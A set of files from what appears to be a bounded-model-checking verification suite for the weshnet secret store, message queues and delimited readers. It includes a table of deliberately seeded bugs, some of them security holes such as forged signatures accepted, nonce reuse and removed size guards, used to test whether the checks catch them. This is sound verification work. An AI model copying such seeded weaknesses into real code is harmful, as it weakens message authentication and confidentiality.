                installers=[crypto.install, crypto.install_proto, c02.install, bmc.install, install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    P = MOD + '/pkg/secretstore.'
    grid = []  # the one-formula BMC of two senders did not finish in 40 minutes once the keystore was executed for real: not registered any more
    if grid:
        chk.load([P + 'VerifC09Concurrent'])
    cfg = {'timeout_ms': 120000, 'unwind': 12, 'dec_as_term': True, 'chan_pool': 0}
    # the one-formula BMC jobs run in the thorough tier only (10+ CPU minutes per job since the keystore is weshnet's own
    # datastore keystore); the contract is decided with the symbolic scheduler below
    jobs = [Job(P + 'VerifC09Concurrent', a, cfg=cfg, max_paths=100000) for a in grid]
    res = chk.run_jobs(jobs) if jobs else []
    chk.cleanup()
    # the same contract under the symbolic scheduler inside the interpreter (coop.py): one shared heap, real datastore semantics
    chk2 = Check('C09', c01.PKGS, 'pkg/secretstore',
                 ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C09/zz_verif_c09_coop.go'],
                 installers=[crypto.install, crypto.install_proto, c02.install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    chk2.load([P + 'VerifC09Coop', P + 'VerifC09FirstUse', P + 'VerifC09Replay'])
    cgrid = [(2, 1, 1, 1), (2, 1, 0, 1)] if t == 'quick' else [(2, 1, 1, 2), (2, 1, 0, 1)]
    kj = []
    for (sn, per, same, pre) in cgrid:
        K = 6 if same == 1 else 3
        for i in range(K):
            kj.append(Job(P + 'VerifC09Coop', (sn, per, same), cfg={'timeout_ms': 60000, 'unwind': 12, 'dec_as_term': True}, installers=[functools.partial(_coop_inst, pre)],
                          shard=(i, K), max_paths=400000, label='VerifC09Coop(%d,%d,%d)[pre<=%d]#%d/%d' % (sn, per, same, pre, i, K)))
    RK = 2
    rpre = 1
    for i in range(RK):
        kj.append(Job(P + 'VerifC09Replay', (1, 1), cfg={'timeout_ms': 60000, 'unwind': 12, 'dec_as_term': True}, installers=[functools.partial(_coop_inst, rpre)],
                      shard=(i, RK), max_paths=400000, label='VerifC09Replay[pre<=%d]#%d/%d' % (rpre, i, RK)))
    for ws in (0,):  # with a concurrent seal (1) the thorough run did not finish in 35 minutes
        fpre = 2
        FK = 4
        for i in range(FK):
            kj.append(Job(P + 'VerifC09FirstUse', (ws,), cfg={'timeout_ms': 60000, 'unwind': 12, 'dec_as_term': True}, installers=[functools.partial(_coop_inst, fpre)],
                          shard=(i, FK), max_paths=400000, label='VerifC09FirstUse(%d)[pre<=%d]#%d/%d' % (ws, fpre, i, FK)))
    res += chk2.run_jobs(kj)
    chk = chk2
    finish(chk, res, t,
           explanation='Schedule-symbolic bounded model checking (DESIGN section 4) of concurrent SealEnvelope calls on one secret store: the goroutine '
                       'bodies are the real SealEnvelope / getDeviceChainKeyForGroupAndDevice / sealEnvelope / deriveDeviceChainKey / preComputeNextKey / '
                       'putPrecomputedKeys / updateCurrentKey / putDeviceChainKey executed in open mode (every datastore Get/Put/Batch.Commit and every '
                       'messageMutex operation is a recorded visible step; a Get returns a free term bound to the shared datastore array at the step it '
                       'executes). For each tuple of sequences one formula with free who_k / stop decides stuck states, the in-thread assertions and '
                       'final-state assertions over the header counters of the returned envelopes.',
           bounds={'grid(senders, messages each, same group)': grid, 'coop_grid(senders, messages each, same group, preemption bound)': cgrid, 'outside': 'more senders/messages; real parallel hardware effects below sequential consistency; OpenEnvelopePayload concurrently with sends'},
           assumptions=['sequential consistency', 'datastore operations are atomic steps', 'term algebra for the KDF chain'],
           trusted=['go/ssa lowering', 'wesym interpreter (open mode) + BMC composer + contracts', 'z3 5.1.0'])


if __name__ == '__main__':
    main()
