#!/usr/bin/env python3
"""assembles /verif/DESIGN.md from the section files in docs/design/ and the seeded/*/meta.json table"""
import json, os, glob
R = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
D = os.path.join(R, 'docs', 'design')
parts = ['00_head.md', '27_mid.md', '4b_coop.md', '5_crash_clock.md', '6_props.md', '7_tail.md']
SHORT = {
 'C01': ('`putKeyForCID` moved before the signature check in `openPayload`: a forged envelope is rejected once, then delivered when the same entry is opened again', 'second open of the same forged entry'),
 'C02': ('`preComputeKeys` loop bound off by one when a chain key is registered: the last key of the window is never derived', 'a message at the far edge of the window'),
 'C03': ('`sigCheckerGroupMemberDeviceAdded`: `err != nil && !ok` — a device announcement without the member key\'s signature passes', 'adversarial metadata event'),
 'C04': ('`UpdateIndex` fast path for account groups: skip when the newest entry is already indexed', 'entries of a concurrent branch arriving after newer ones'),
 'C05': ('`groupIDToNonce` through a helper that only accepts 24 bytes: every announcement uses the all-zero nonce', 'the same key pair in two groups (account / contact group)'),
 'C06': ('arguments of the low-order check `curve25519.X25519` swapped in `computeSharedEphemeral`', 'a low-order ephemeral key from the peer'),
 'C07': ('`handleContactRequestIncomingReceived`: seed backfill guard tests the wrong side', 'a three-step request history'),
 'C08': ('`PriorityQueue.Add` appends without sift-up: parked messages are no longer released lowest counter first', 'more parked messages than the key window, arriving newest first'),
 'C09': ('`SealEnvelope` holds the message mutex only around the derive step', 'two goroutines sealing on one store'),
 'C10': ('`postDecryptActions` writes the CID index last', 'a crash between two particular writes'),
 'C11': ('`restoreAccountKeys` guard only looks at the account key', 'a store that used a multi-member group (proof key, cached member key) before the import'),
 'C12': ('`GroupJoin` type check turned into a deny-list', 'a genuine invitation retyped as contact group'),
 'C13': ('`getEntriesInRange`: the two `if`s became one `switch`', '`since` = `until`'),
 'C14': ('`OutOfStoreMessageOpen` calls the log path\'s `postDecryptActions`', 'push delivery before log delivery'),
 'C15': ('`SimpleQueue.Add` signals outside the lock, only if a re-read length is <= 1', 'two producers interleaved, consumer parked'),
 'C16': ('`WaitForConnectednessChange` re-checks the state without holding the group\'s notify lock', '`AssociatePeer` between the check and the channel registration'),
 'C17': ('`NextPoint` always derives from the old deadline', 'a topic resolved after two or more idle periods'),
 'C18': ('`length < 0` removed from the size guard of the delimited readers', 'a varint length prefix >= 2^63'),
 'C19': ('`activateGroup` dereferences `accountGroupCtx` for contact groups without the nil guard', 'ActivateGroup of a known contact group while the account group is deactivated'),
 'C20': ('`readExportCBORNode` decodes through `NewBlockWithCid` / `DecodeBlock`: the identifier in the file name is trusted', 'an archive with a damaged entry'),
}
SHORT.update({
 'C01-2': ('`SealEnvelope` holds the message mutex only around the derive step (filed under C01: two honest envelopes share counter, key and nonce; the second never opens)', 'two concurrent sends of one device'),
 'C02-2': ('`registerChainKey` ignores an already registered device only for the own device: a re-delivered announcement rewinds the stored chain key', 'open, re-register, open at the window edge'),
 'C03-2': ('`openGroupEnvelope` skips the signature checker for any signature bytes seen before (package-level `sync.Map`)', 'a forged event reusing the signature of a genuine event that was opened first'),
 'C04-2': ('`handleGroupMemberDeviceAdded` tests the member key instead of the device key for duplicates', 'a member with two devices; listing depends on delivery order and changes on reopen'),
 'C05-2': ('`handleGroupDeviceChainKeyAdded` marks a member as served when ANY device of the own member sent the key', 'second device of a member joining after its sibling, two index passes'),
 'C06-2': ('`handleIncomingRequest` compares the announced key with `bytes.EqualFold` and records the announced contact unchanged', 'a requester announcing a fold-equivalent variant of its authenticated key'),
 'C07-2': ('`ContactRequestOutgoingSent` guard loses `ContactStateRemoved`', 'block, unblock, enqueue'),
 'C08-2': ('`getOrCreateDeviceCache` releases `muDeviceCaches` around the chain-key lookup', 'key registered between the lookup and the insertion of the new device cache'),
 'C09-2': ('`getOwnDeviceChainKeyForGroup` creates the own chain key under a narrowed lock without re-reading: a second first-user hands out a key that was never stored', 'two concurrent first uses of a group (two SendSecret, or PutGroup racing SendSecret)'),
 'C13-2': ('`MessageStore.ListEvents` reads `GetEntries()` (arrival order) instead of `Values()`', 'a replica that received entries in a batch'),
 'C14-2': ('`UpdateOutOfStoreGroupReferences` treats the stored last counter as inclusive: a reference is never created when the window slides', 'in-order log delivery, then a push at the upper part of the window'),
 'C15-2': ('`PriorityQueue.Next` calls the type\'s own `Pop` (last slot) instead of `heap.Pop`', 'two or more items pending'),
 'C16-2': ('(see seeded/C16-2/meta.json)', ''),
 'C17-2': ('clean-up delay of the previous rotation value clamped with `min` instead of `max`: deleted at once', 'a lookup by the previous value during the grace period'),
 'C18-2': ('uint32 reader reads its 4-byte prefix with `Read` instead of `io.ReadFull`', 'a transport that returns part of a length prefix'),
 'C19-2': ('`getEntriesInRange` skips the since-after-until check when `until` is the first entry', 'inverted range whose `until` is entry 0: slice bounds panic'),
 'C20-2': ('`restoreAccountKeys` refuses only when BOTH keys exist', 'restore onto a store holding only one of the two lazily created keys'),
 'C10-2': ('chain key of a peer device persisted before the batch of precomputed message keys', 'a crash between the two writes of a registration'),
 'C11-2': ('contact-group key cached under the member-key namespace', 'a multi-member group whose identifier equals a contact account key'),
 'C12-2': ('`FilterGroupForReplication` returns its input unchanged when `SignPub` and a 32-byte `LinkKey` are set', 'an invitation that carries those optional public fields'),
})
SHORT.update({
 'C01-3': ('`OutOfStoreMessageOpen` memoises the message key under the (unauthenticated) entry identifier of the push payload', 'genuine envelope relayed as a push with a chosen identifier, then a forged entry under that identifier'),
 'C02-3': ('`postDecryptActions` skips deriving the next key when the stored chain key is already far enough ahead', 'a message opened after a younger one, then one at the window edge'),
 'C03-3': ('`sigCheckerGroupSigned`: `err != nil && !ok`: any signature passes on the initial-member announcement', 'adversarial ownership claim'),
 'C04-3': ('`handleContactAliasKeyAdded` drops alias keys of devices not yet in the (never reset) device map', 'one index pass over a batch vs. several passes'),
 'C05-3': ('`getOwnDeviceChainKeyForGroup` narrowed lock without re-read (the change of C09-2 filed under C05)', 'two concurrent first requests of the own chain key'),
 'C06-3': ('`computeRequesterAuthenticateBoxKey`: `:=` shadow, the box key no longer depends on the target account', 'a requester targeting another account relayed to this responder'),
 'C07-3': ('`ContactRequestIncomingReceived` guard loses `ContactStateRemoved`', 'block, unblock, incoming request'),
 'C08-3': ('`WaitForItem` drains the signal channel after releasing the lock', 'an `Add` between the unlock and the drain'),
 'C09-3': ('`RegisterChainKey` treats the own announcement as own (device comparison) and `registerChainKey` re-registers when the stored counter is not newer: unlocked check-then-put of the old chain key', 'the own announcement replayed while the first message is being sealed'),
 'C11-3': ('equal-key guard of `restoreAccountKeys` compares the two blobs instead of the parsed keys', 'the same key in two encodings (legacy 96-byte layout)'),
 'C13-3': ('`GroupMetadataList`: the channel between replay and send loop becomes buffered', '`until_now`: cancel races the buffered tail'),
 'C19-3': ('`AESCTRStream` IV guard narrowed to `<`', 'an oversized IV'),
 'C10-3': ('chain key of a peer written before the next precomputed message key on the receive path', 'a crash between the two writes; the message one window ahead'),
 'C12-3': ('`Group.IsValid` returns nil when `SecretSig` is empty', 'an invitation with the signature stripped'),
 'C14-3': ('`createOutOfStoreGroupReference` no longer depends on the sender device', 'two senders in one group whose windows drift apart'),
 'C20-3': ('`RestoreAccountExport` ignores `(false, err)` of a file handler: a duplicated key file is accepted', 'an archive with a second key file'),
})
rows = []
for m in sorted(glob.glob(os.path.join(R, 'seeded', '*', 'meta.json'))):
    d = json.load(open(m))
    sid = os.path.basename(os.path.dirname(m))
    sh = SHORT.get(sid, ((d.get('summary') or '').split('. ')[0][:200], (d.get('needs_to_manifest') or '')[:120]))
    det = {'yes': 'yes', 'after-strengthening': 'after strengthening', 'no': 'NO'}.get(d.get('check_detects'), d.get('check_detects'))
    rows.append('| `seeded/%s` | %s | %s | %s |' % (sid, sh[0], sh[1], det))
table = ('| change | what it does | needs, to manifest | detected by `checks/cNN.py quick` |\n|---|---|---|---|\n' + '\n'.join(rows))
out = []
for p in parts:
    out.append(open(os.path.join(D, p)).read().rstrip() + '\n')
txt = '\n'.join(out).replace('@@SEEDED@@', table)
open(os.path.join(R, 'DESIGN.md'), 'w').write(txt)
print('DESIGN.md written:', len(txt.splitlines()), 'lines;', len(rows), 'seeded changes')
