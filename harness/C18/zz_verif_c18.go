package protoio

import (
	"encoding/binary"
	"io"

	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"
)

// verifMsg is the harness message: proto.Marshal / proto.Unmarshal are environment contracts that
// copy `body` out of / into it (the real generated messages have no MarshalTo, so the fallback path is the one exercised).
type verifMsg struct {
	body []byte
	set  bool
}

func (m *verifMsg) ProtoReflect() protoreflect.Message { return nil }

// verifStream is the byte stream between writer and reader: Write appends, Read hands out a FREE
// number of bytes between 1 and min(len(p), remaining) -- chunking is a solver variable.
type verifStream struct {
	data  []byte
	pos   int
	reads int
	full  bool // hand out as much as fits (used where chunking is not the subject)
}

func (s *verifStream) Read(p []byte) (int, error) {
	if len(p) == 0 {
		return 0, nil
	}
	rem := len(s.data) - s.pos
	if rem == 0 {
		return 0, io.EOF
	}
	lim := rem
	if len(p) < lim {
		lim = len(p)
	}
	k := lim
	if !s.full {
		k = verif_anyInt("chunk")
		verif_assume(k >= 1)
		verif_assume(k <= lim)
	}
	copy(p[:k], s.data[s.pos:s.pos+k])
	s.pos += k
	s.reads++
	return k, nil
}

func (s *verifStream) Write(p []byte) (int, error) {
	s.data = append(s.data, p...)
	return len(p), nil
}

func verif_resetAlloc()  { panic("intrinsic") }
func verif_maxAlloc() int { panic("intrinsic") }

func verifEqBytes(a, b []byte) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func verifMkReader(kind int, s *verifStream, maxSize int) Reader {
	switch kind {
	case 0:
		return NewDelimitedReader(s, maxSize)
	case 1:
		return NewUint32DelimitedReader(s, binary.BigEndian, maxSize)
	default:
		return NewUint32DelimitedReader(s, binary.LittleEndian, maxSize)
	}
}

func verifMkWriter(kind int, s *verifStream) Writer {
	switch kind {
	case 0:
		return NewDelimitedWriter(s)
	case 1:
		return NewUint32DelimitedWriter(s, binary.BigEndian)
	default:
		return NewUint32DelimitedWriter(s, binary.LittleEndian)
	}
}

// VerifC18RoundTrip: two messages of lengths l1, l2 with free bodies written then read back under free chunking.
func VerifC18RoundTrip(kind, nmsg, l1, l2 int) {
	s := &verifStream{}
	w := verifMkWriter(kind, s)
	m1 := &verifMsg{body: verif_anyVec("m1", l1)}
	m2 := &verifMsg{body: verif_anyVec("m2", l2)}
	verif_assert(w.WriteMsg(m1) == nil, "C18.rt: write 1 succeeds")
	if nmsg > 1 {
		verif_assert(w.WriteMsg(m2) == nil, "C18.rt: write 2 succeeds")
	}
	r := verifMkReader(kind, s, 4)
	o1, o2, o3 := &verifMsg{}, &verifMsg{}, &verifMsg{}
	err := r.ReadMsg(o1)
	verif_assert(err == nil, "C18.rt: frame 1 read back")
	verif_assert(o1.set && verifEqBytes(o1.body, m1.body), "C18.rt: frame 1 identical")
	if nmsg > 1 {
		err = r.ReadMsg(o2)
		verif_assert(err == nil, "C18.rt: frame 2 read back")
		verif_assert(o2.set && verifEqBytes(o2.body, m2.body), "C18.rt: frame 2 identical")
		verif_assert(verifEqBytes(o1.body, m1.body), "C18.rt: frame 1 not corrupted by reading frame 2 (buffer reuse)")
	}
	err = r.ReadMsg(o3)
	verif_assert(err == io.EOF, "C18.rt: clean end of stream is io.EOF")
	verif_assert(!o3.set, "C18.rt: nothing delivered at end of stream")
	verif_reach("C18.rt.ok")
}

// VerifC18Limit: a frame of maxSize+1 bytes after a good frame is refused without allocating beyond the limit.
func VerifC18Limit(kind, maxSize, l1 int) {
	s := &verifStream{}
	w := verifMkWriter(kind, s)
	m1 := &verifMsg{body: verif_anyVec("m1", l1)}
	big := &verifMsg{body: verif_anyVec("big", maxSize+1)}
	verif_assume(l1 <= maxSize)
	_ = w.WriteMsg(m1)
	_ = w.WriteMsg(big)
	r := verifMkReader(kind, s, maxSize)
	verif_resetAlloc()
	o1, o2 := &verifMsg{}, &verifMsg{}
	err := r.ReadMsg(o1)
	verif_assert(err == nil && o1.set && verifEqBytes(o1.body, m1.body), "C18.limit: frame before the oversized one delivered intact")
	err = r.ReadMsg(o2)
	verif_assert(err != nil, "C18.limit: frame longer than the limit is an error")
	verif_assert(!o2.set, "C18.limit: oversized frame not delivered")
	verif_assert(verif_maxAlloc() <= maxSize, "C18.limit: no allocation beyond the limit")
	verif_assert(verifEqBytes(o1.body, m1.body), "C18.limit: earlier frame not corrupted")
	verif_reach("C18.limit.ok")
}

// reference decoder of one frame from data[pos:]: returns (body start, body len, ok)
func verifRefFrame(kind int, data []byte, pos, maxSize int) (int, int, bool) {
	if kind == 0 {
		var x uint64
		var sft uint
		for i := 0; i < 10; i++ {
			if pos+i >= len(data) {
				return 0, 0, false
			}
			b := data[pos+i]
			if b < 0x80 {
				if i == 9 && b > 1 {
					return 0, 0, false
				}
				x |= uint64(b) << sft
				n := int(x)
				if n < 0 || n > maxSize {
					return 0, 0, false
				}
				if pos+i+1+n > len(data) {
					return 0, 0, false
				}
				return pos + i + 1, n, true
			}
			x |= uint64(b&0x7f) << sft
			sft += 7
		}
		return 0, 0, false
	}
	if pos+4 > len(data) {
		return 0, 0, false
	}
	var v uint32
	if kind == 1 {
		v = uint32(data[pos])<<24 | uint32(data[pos+1])<<16 | uint32(data[pos+2])<<8 | uint32(data[pos+3])
	} else {
		v = uint32(data[pos+3])<<24 | uint32(data[pos+2])<<16 | uint32(data[pos+1])<<8 | uint32(data[pos])
	}
	n := int(v)
	if n < 0 || n > maxSize {
		return 0, 0, false
	}
	if pos+4+n > len(data) {
		return 0, 0, false
	}
	return pos + 4, n, true
}

// VerifC18Arbitrary: an arbitrary byte stream of n bytes under free chunking: never a panic, never an allocation
// beyond the limit, and the reader agrees with the reference decoder frame by frame (differential oracle).
func VerifC18Arbitrary(kind, n, maxSize int) {
	s := &verifStream{data: verif_anyVec("stream", n)}
	r := verifMkReader(kind, s, maxSize)
	verif_resetAlloc()
	pos := 0
	for f := 0; f < 2; f++ {
		o := &verifMsg{}
		err := r.ReadMsg(o)
		start, ln, ok := verifRefFrame(kind, s.data, pos, maxSize)
		verif_assert(verif_maxAlloc() <= maxSize, "C18.arb: no allocation beyond the limit")
		if !ok {
			verif_assert(err != nil, "C18.arb: malformed/truncated/oversized frame is an error")
			verif_assert(!o.set, "C18.arb: nothing delivered for a bad frame")
			if pos == len(s.data) {
				verif_assert(err == io.EOF, "C18.arb: clean end of stream is io.EOF")
			}
			verif_reach("C18.arb.err")
			return
		}
		verif_assert(err == nil, "C18.arb: well-formed frame accepted")
		verif_assert(o.set && verifEqBytes(o.body, s.data[start:start+ln]), "C18.arb: delivered body is the framed bytes")
		pos = start + ln
	}
	verif_reach("C18.arb.ok")
}

// VerifC18LongHeader: streams long enough to hold a maximal (10-byte) varint length prefix, i.e. every 64-bit length
// including those that are negative as an int: one frame, differential against the reference decoder, no panic.
func VerifC18LongHeader(n, maxSize int) {
	s := &verifStream{data: verif_anyVec("stream", n), full: true}
	r := verifMkReader(0, s, maxSize)
	verif_resetAlloc()
	o := &verifMsg{}
	err := r.ReadMsg(o)
	start, ln, ok := verifRefFrame(0, s.data, 0, maxSize)
	verif_assert(verif_maxAlloc() <= maxSize, "C18.hdr: no allocation beyond the limit")
	if !ok {
		verif_assert(err != nil, "C18.hdr: malformed/truncated/oversized frame is an error")
		verif_assert(!o.set, "C18.hdr: nothing delivered for a bad frame")
		verif_reach("C18.hdr.err")
		return
	}
	verif_assert(err == nil, "C18.hdr: well-formed frame accepted")
	verif_assert(o.set && verifEqBytes(o.body, s.data[start:start+ln]), "C18.hdr: delivered body is the framed bytes")
	verif_reach("C18.hdr.ok")
}

// VerifC18Witness: vacuity guard.
func VerifC18Witness() {
	s := &verifStream{}
	w := verifMkWriter(0, s)
	_ = w.WriteMsg(&verifMsg{body: verif_anyVec("m", 2)})
	r := verifMkReader(0, s, 4)
	o := &verifMsg{}
	if r.ReadMsg(o) == nil && len(o.body) == 2 {
		verif_assert(false, "C18.witness: reachable")
	}
}

var _ = proto.Marshal
