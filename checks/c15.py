#!/usr/bin/env python3
"""C15: message queues -- sequential contracts (priority by counter, FIFO, exactly once, cancelled wait)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import seqchan
from wesym import bmc


import functools
from wesym import coop


def _coop_inst(preemptions, I):
    coop.install(I, preemptions=preemptions)


def main():
    t = tier()
    chk = Check('C15', [MOD + '/internal/queue', 'container/heap', 'container/list'], 'internal/queue',
                ['C15/zz_verif_c15.go', 'C15/zz_verif_c15_conc.go', 'C15/zz_verif_c15_coop.go'], installers=[seqchan.install], prelude_pkgname='queue')
    P = MOD + '/internal/queue.'
    # one front-end run for the three groups of harnesses; the engine (sequential / BMC / coop) is chosen per job
    chk.load([P + n for n in ('VerifC15Priority', 'VerifC15NextAll', 'VerifC15SimpleSeq', 'VerifC15Witness', 'VerifC15Concurrent', 'VerifC15Coop')])
    N = 4 if t == 'quick' else 5
    jobs = []
    for n in range(0, N + 1):
        for pre in range(0, n + 1):
            jobs.append(Job(P + 'VerifC15Priority', (n, pre), cfg={'unwind': 40}))
        jobs.append(Job(P + 'VerifC15NextAll', (n,), cfg={'unwind': 40}))
        jobs.append(Job(P + 'VerifC15SimpleSeq', (n,)))
    jobs.append(Job(P + 'VerifC15Witness', (), witness=True))
    # concurrent part: schedule-symbolic BMC of the real Add / WaitForItem (container/list by FIFO contract)
    cj = []
    conc = [(1, 1, 0), (1, 2, 0)] if t == 'quick' else [(1, 1, 0), (1, 2, 0), (2, 1, 0), (1, 1, 1)]
    for (pr, per, cn) in conc:
        cj.append(Job(P + 'VerifC15Concurrent', (pr, per, cn), cfg={'unwind': per * pr + 2 + cn, 'timeout_ms': 120000}, max_paths=200000, installers=[bmc.install]))
    # the same contract by the symbolic scheduler inside the interpreter (coop.py), real container/list
    kj = []
    grid = [(1, 2, 0, 2), (2, 1, 0, 2), (1, 1, 1, 2)] if t == 'quick' else [(1, 3, 0, 3), (2, 1, 0, 3), (2, 2, 0, 2), (1, 2, 1, 2), (2, 1, 1, 2)]
    for (pr, per, cn, pre) in grid:
        kj.append(Job(P + 'VerifC15Coop', (pr, per, cn), cfg={'unwind': 12}, installers=[functools.partial(_coop_inst, pre)], max_paths=200000,
                      label='VerifC15Coop(%d,%d,%d)[pre<=%d]' % (pr, per, cn, pre)))
    # heavy BMC jobs first so that the pool is busy from the start
    res = chk.run_jobs(cj + kj + jobs)
    finish(chk, res, t,
           explanation='Bounded symbolic execution of PriorityQueue (with the real container/heap) and SimpleQueue (with the real '
                       'container/list) instantiated at a harness item type: counters are free 64-bit values, so every relative '
                       'order of up to N items (incl. ties) is one solver-explored family of paths; add/next interleavings split the '
                       'adds at every position. Sequential part of C15 only: the lost wake-up under concurrency is decided by the '
                       'schedule-symbolic BMC (see DESIGN section 4) and reported there.',
           bounds={'items': '0..%d' % N, 'counters': 'free uint64 (all orders and ties)',
                   'concurrent_bmc': '(producers, items each, canceller) = %s: all schedules of the operation sequences in one formula' % (conc,),
                   'concurrent_coop': '(producers, items each, canceller, preemption bound) = %s: symbolic scheduler inside the interpreter, real container/list' % (grid,),
                   'outside': 'more items / producers; more preemptions than the bound in the coop jobs; weak memory'},
           assumptions=['sequential harnesses: a blocking select with no ready case is reported as deadlock', 'concurrent harnesses: sequential consistency; data-race freedom w.r.t. mutex/channel/context operations'],
           trusted=['go/ssa lowering', 'wesym interpreter', 'z3 5.1.0 (+cvc5, z3 4.8.12 cross-check)'])


if __name__ == '__main__':
    main()
