package weshnet

import (
	"context"

	ipfslog "berty.tech/go-ipfs-log"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/event"
	"go.uber.org/zap"
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
	"berty.tech/weshnet/v2/pkg/secretstore"
)

func verif_emitter(name string) event.Emitter                                   { panic("intrinsic") }
func verif_emittedCount(e event.Emitter) int                                    { panic("intrinsic") }
func verif_emittedAt(e event.Emitter, i int) interface{}                        { panic("intrinsic") }
func verif_go(name string, f func())                                            { panic("intrinsic") }
func verif_quiesce()                                                            { panic("intrinsic") }
func verif_cancelCtx(parent context.Context) (context.Context, context.CancelFunc) { panic("intrinsic") }

type c08World struct {
	ctx     context.Context
	cancel  context.CancelFunc
	snd     secretstore.SecretStore
	rcv     secretstore.SecretStore
	g       *protocoltypes.Group
	sndDev  crypto.PubKey
	sndRaw  []byte
	enc     []byte // chain-key announcement of the sender for the receiving member (made before any message was sealed)
	store   *MessageStore
	log     ipfslog.Log
	entries []ipfslog.Entry
	plain   [][]byte
	tracer  *messageMetricsTracer
}

// c08Setup builds, sequentially, two secret stores in one multi-member group, the sender's announcement, n sealed
// messages appended to a log, and a MessageStore of the receiver constructed directly (the OrbitDB constructor is
// skipped: its two goroutines are started by the harness from the same method values).
func c08Setup(n int) *c08World {
	w := &c08World{}
	ctx, cancel := verif_cancelCtx(verif_background())
	w.ctx, w.cancel = ctx, cancel
	w.snd = verifSecretStore("snd")
	w.rcv = verifSecretStore("rcv")
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	w.g = g
	sndMD, err := w.snd.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	rcvMD, err := w.rcv.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	w.sndDev = sndMD.Device()
	w.sndRaw, err = w.sndDev.Raw()
	verif_assume(err == nil)
	w.enc, err = w.snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	verif_assume(err == nil)

	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	rcvRaw, err := rcvMD.Device().Raw()
	verif_assume(err == nil)
	w.tracer = &messageMetricsTracer{}
	m := &MessageStore{
		secretStore:               w.rcv,
		messagesQueue:             newMessageQueue("cache", w.tracer),
		group:                     g,
		groupPublicKey:            gpk,
		logger:                    zap.NewNop(),
		deviceCaches:              make(map[string]*groupCache),
		currentDevicePublicKey:    rcvMD.Device(),
		currentDevicePublicKeyRaw: rcvRaw,
	}
	m.emitters.groupMessage = verif_emitter("groupMessage")
	m.emitters.groupCacheMessage = verif_emitter("groupCacheMessage")
	m.ctx, m.cancel = ctx, cancel
	w.store = m

	// the entries are in the store's own log (what ListEvents reads); their arrival is driven by the harnesses
	w.log = verif_storeLog(&m.BaseStore)
	for i := 0; i < n; i++ {
		p := verif_anyBytesNonNil("payload")
		w.plain = append(w.plain, p)
		pay, err := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p})
		verif_assume(err == nil)
		env, err := w.snd.SealEnvelope(ctx, g, pay)
		verif_assume(err == nil)
		w.entries = append(w.entries, verif_logAppend(w.log, env))
	}
	return w
}

// c08Delivered: how often entry i was emitted to the application, and whether each emission carried the original
// payload, the sender device and the entry id.
func (w *c08World) delivered(i int) int {
	em := w.store.emitters.groupMessage
	cnt := 0
	for k := 0; k < verif_emittedCount(em); k++ {
		evt, ok := verif_emittedAt(em, k).(*protocoltypes.GroupMessageEvent)
		verif_assert(ok && evt != nil, "C08: emissions are group message events")
		if !ok || evt == nil {
			continue
		}
		if verif_bytesEq(evt.EventContext.Id, w.entries[i].GetHash().Bytes()) {
			cnt++
			verif_assert(verif_bytesEq(evt.Message, w.plain[i]), "C08: a delivered message carries the original payload")
			verif_assert(evt.Headers != nil && verif_bytesEq(evt.Headers.DevicePk, w.sndRaw), "C08: a delivered message names the sending device")
		}
	}
	return cnt
}

// VerifC08Pipeline: n entries of one sender arrive in a free order (what the store's subscriber goroutine does per
// entry), the chain-key announcement is registered by a third goroutine (what GroupContext.handleGroupMetadataEvent
// does: RegisterChainKey, then ProcessMessageQueueForDevicePK), and the consumer loop runs -- under a symbolic
// schedule. At quiescence (no goroutine can move) every entry has been delivered exactly once, with the original
// payload and sender, and nothing stays parked.
func VerifC08Pipeline(n int, dup int) {
	w := c08Setup(n)
	m := w.store
	arrivals := n + dup
	order := make([]int, arrivals)
	seen := make([]int, n)
	for k := 0; k < arrivals; k++ {
		i := verif_anyInt("arrival")
		verif_assume(i >= 0 && i < n)
		order[k] = i
		seen[i]++
	}
	for i := 0; i < n; i++ {
		verif_assume(seen[i] >= 1) // every entry arrives at least once; dup extra arrivals re-deliver some entry
	}

	verif_go("loop", func() { m.processMessageLoop(w.ctx, w.tracer) })
	verif_go("arrive", func() {
		for _, i := range order {
			_ = m.addToMessageQueue(w.ctx, w.entries[i])
		}
	})
	verif_go("register", func() {
		if err := w.rcv.RegisterChainKey(w.ctx, w.g, w.sndDev, w.enc); err != nil {
			return
		}
		m.ProcessMessageQueueForDevicePK(w.ctx, w.sndRaw)
	})
	verif_quiesce()

	for i := 0; i < n; i++ {
		d := w.delivered(i)
		verif_assert(d >= 1, "C08: a decryptable message is delivered once its key is known and nothing else is pending")
		verif_assert(d <= seen[i], "C08: a message is delivered at most once per arrival of its entry")
	}
	size, _ := m.CacheSizeForDevicePK(w.sndRaw)
	verif_assert(size == 0, "C08: nothing stays parked in the device cache at quiescence")
	verif_reach("C08.pipeline.quiescent")
}

// VerifC08KeyFirst: the key is known before the store sees anything (sequential registration), entries then arrive
// concurrently with the loop: same obligations.
func VerifC08KeyFirst(n int) {
	w := c08Setup(n)
	m := w.store
	verif_assume(w.rcv.RegisterChainKey(w.ctx, w.g, w.sndDev, w.enc) == nil)
	order := make([]int, n)
	seen := make([]int, n)
	for k := 0; k < n; k++ {
		i := verif_anyInt("arrival")
		verif_assume(i >= 0 && i < n)
		order[k] = i
		seen[i]++
	}
	for i := 0; i < n; i++ {
		verif_assume(seen[i] == 1)
	}
	verif_go("loop", func() { m.processMessageLoop(w.ctx, w.tracer) })
	verif_go("arrive", func() {
		for _, i := range order {
			_ = m.addToMessageQueue(w.ctx, w.entries[i])
		}
	})
	verif_quiesce()
	for i := 0; i < n; i++ {
		verif_assert(w.delivered(i) == 1, "C08: with the key known every message is delivered exactly once")
	}
